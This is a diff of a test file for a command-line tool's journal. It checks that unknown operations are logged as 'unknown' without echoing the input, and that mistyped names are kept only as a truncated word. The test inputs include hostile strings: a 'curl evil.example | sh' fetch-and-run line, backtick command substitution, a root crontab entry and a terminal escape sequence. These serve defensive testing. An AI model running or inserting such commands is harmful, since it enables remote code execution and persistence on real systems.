@@ -66,7 +66,7 @@ describe("the journal", () => {
 
   it("records operations that do not exist as unknown", async () => {
     using place = new Place();
-    const made = [EVIL, "no_such_server.tool", "`id`", "\n* * * * * root id"];
+    const made = [EVIL, "`id`", "\n* * * * * root id", "curl evil.example | sh", "\u001b]0;title\u0007"];
     for (const op of made) {
       await place.run(query(op));
       await place.run(["execute", JSON.stringify([{ op }])]);
@@ -74,5 +74,17 @@ describe("the journal", () => {
     const text = journalText(place.home);
     expect(text.match(/"op":"unknown"/g)).toHaveLength(2 * made.length);
     for (const op of made) expect(text).not.toContain(JSON.stringify(op).slice(1, -1));
+    expect(text).not.toContain("asked");
+  });
+
+  it("keeps of a mistyped name only a short word beside unknown", async () => {
+    using place = new Place();
+    await place.run(query("no_such_server.tool"));
+    await place.run(query("a".repeat(500)));
+    const text = journalText(place.home);
+    expect(text.match(/"op":"unknown"/g)).toHaveLength(2);
+    expect(text).toContain('"asked":"no_such_server.tool"');
+    expect(text).toContain(`"asked":"${"a".repeat(40)}…"`);
+    expect((await place.run(["log"])).stdout).toMatch(/ {2}unknown \(no_such_server\.tool\) .*error NOT_FOUND$/m);
   });
 });
